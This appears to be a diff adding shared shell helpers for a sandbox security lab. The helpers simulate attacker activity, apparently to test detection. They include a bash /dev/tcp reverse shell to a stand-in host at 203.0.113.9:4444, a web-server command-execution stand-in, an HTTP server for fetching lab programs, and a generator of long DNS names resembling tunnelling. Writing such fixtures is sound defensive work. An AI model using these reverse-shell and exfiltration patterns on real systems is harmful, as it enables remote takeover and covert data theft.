@@ -1,0 +1,46 @@
+# What scripts of a sandbox have in common. Its programs lie at /opt/lab.
+
+# Programs of these names, which do nothing.
+named() {
+	for path; do mkdir -p "${path%/*}"; cp --remove-destination /bin/true "$path"; chmod 755 "$path"; done
+}
+
+# Shells under these names.
+shell() {
+	for path; do mkdir -p "${path%/*}"; cp --remove-destination /bin/dash "$path"; chmod 755 "$path"; done
+}
+
+# Somebody listens on this port of every address.
+listener() {
+	python3 -c 'import socket, sys, time
+s = socket.create_server(("", int(sys.argv[1]))); kept = []
+while True: kept.append(s.accept())' "$1" &
+	until ss -ltn | grep -q ":$1 "; do sleep 0.05; done
+}
+
+# Its programs can be fetched from http://10.9.8.7:8000/
+web() {
+	(cd /opt/lab && exec python3 -m http.server -b 10.9.8.7 8000 > /dev/null 2>&1) &
+	until ss -ltn | grep -q ':8000 '; do sleep 0.05; done
+}
+
+# A command in a shell that a web server has started, as through a hole in it.
+server() {
+	/usr/sbin/httpd -c 'sh -c "$0; :"; :' "$1"
+}
+
+# A command in a shell whose input and output are a connection.
+remote() {
+	bash -c 'exec 3<>/dev/tcp/203.0.113.9/4444; sh -c "$0; :" <&3 >&3 2>&3; :' "$1"
+}
+
+# Queries of a type: so many, with names so long.
+dns() {
+	python3 -c '
+import socket, sys
+kind, count, length = {"A": 1, "TXT": 16}[sys.argv[1]], int(sys.argv[2]), int(sys.argv[3])
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+for n in range(count):
+  name = b"".join(bytes([len(part)]) + part for part in (b"%0*d" % (length, n), b"x" * 20, b"example"))
+  s.sendto(bytes.fromhex("000101000001000000000000") + name + bytes([0, 0, kind, 0, 1]), ("10.9.8.1", 53))' "$@"
+}
